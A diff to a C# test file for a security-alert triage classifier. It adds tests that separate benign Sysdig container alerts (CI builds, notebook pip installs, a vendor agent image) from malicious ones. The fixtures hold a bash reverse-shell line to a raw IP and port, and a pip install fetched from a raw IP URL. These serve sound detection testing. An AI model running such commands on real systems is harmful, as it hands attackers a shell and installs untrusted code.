@@ -72,7 +72,7 @@ public sealed class CloudSchemaReadingTests
         Assert.Equal("Terminal shell in container", a.Rule);
         Assert.Equal("cloud.admin", a.User);
         Assert.Equal("bash", a.CommandLine);
-        Assert.Null(a.Severity); // Sysdig's 0..7 runs the other way: not read upside down
+        Assert.Null(a.DetectorSeverity); // Sysdig's 0..7 runs the other way: not read upside down
     }
 
     [Fact]
@@ -123,5 +123,47 @@ public sealed class CloudSchemaReadingTests
         var miner = Assess(Finding("malware_found", "Malware EICAR-Test-File and Linux.Trojan.CoinMiner found on asset", "Malware", "vm-7"));
         Assert.DoesNotContain(miner.Evidence, e => e.Key == "av_test_file");
         Assert.NotEqual(Classification.Benign, miner.Classification);
+    }
+    [Fact]
+    public void A_ci_jobs_package_install_closes_but_a_reverse_shell_in_the_same_pod_stays_open()
+    {
+        const string pod = "runner-ab12c-project-7-concurrent-0";
+        var build = Assess(Sysdig("Drift Detection: Executable not part of the container image",
+            $$$"""{"proc.cmdline": "/builds/app/bin/Release/testhost --port 4100", "proc.pname": "dotnet", "k8s.ns.name": "ci", "k8s.pod.name": "{{{pod}}}"}""", 5));
+        Assert.Contains(build.Evidence, e => e.Key == "ci_build_job");
+        Assert.Equal(Classification.Benign, build.Classification);
+
+        var shell = Assess(Sysdig("Redirect STDOUT/STDIN to Network Connection in Container",
+            $$$"""{"proc.cmdline": "bash -i >& /dev/tcp/102.89.34.117/4444 0>&1", "proc.pname": "sh", "k8s.ns.name": "ci", "k8s.pod.name": "{{{pod}}}"}""", 5));
+        Assert.DoesNotContain(shell.Evidence, e => e.Key == "ci_build_job");
+        Assert.NotEqual(Classification.Benign, shell.Classification);
+    }
+
+    [Fact]
+    public void Pip_in_a_notebook_closes_but_pip_fetching_from_a_url_does_not()
+    {
+        var notebook = Assess(Sysdig("Launch Package Management Process in Container",
+            """{"proc.cmdline": "pip install pandas==2.2.3", "proc.name": "pip", "proc.pname": "bash", "k8s.pod.name": "jupyter-analyst1", "container.image.repository": "quay.io/jupyter/scipy-notebook"}""", 5));
+        Assert.Contains(notebook.Evidence, e => e.Key == "notebook_package_install");
+        Assert.Equal(Classification.Benign, notebook.Classification);
+
+        var fetched = Assess(Sysdig("Launch Package Management Process in Container",
+            """{"proc.cmdline": "pip install http://102.89.34.117/pkg.tar.gz", "proc.name": "pip", "proc.pname": "bash", "k8s.pod.name": "jupyter-analyst1", "container.image.repository": "quay.io/jupyter/scipy-notebook"}""", 5));
+        Assert.DoesNotContain(fetched.Evidence, e => e.Key == "notebook_package_install");
+        Assert.NotEqual(Classification.Benign, fetched.Classification);
+    }
+
+    [Fact]
+    public void A_privileged_node_agent_from_its_vendors_registry_closes_but_a_look_alike_image_does_not()
+    {
+        static string Agent(string repo) => Sysdig("Launch Privileged Container",
+            $$$"""{"proc.cmdline": "agent run", "container.privileged": "true", "k8s.ns.name": "monitoring", "k8s.pod.name": "datadog-agent-x1", "container.image.repository": "{{{repo}}}"}""", 4);
+        var agent = Assess(Agent("gcr.io/datadoghq/agent"));
+        Assert.Contains(agent.Evidence, e => e.Key == "node_agent_image");
+        Assert.Equal(Classification.Benign, agent.Classification);
+
+        var lookalike = Assess(Agent("docker.io/datadoghq-agent/agent"));
+        Assert.DoesNotContain(lookalike.Evidence, e => e.Key == "node_agent_image");
+        Assert.NotEqual(Classification.Benign, lookalike.Classification);
     }
 }
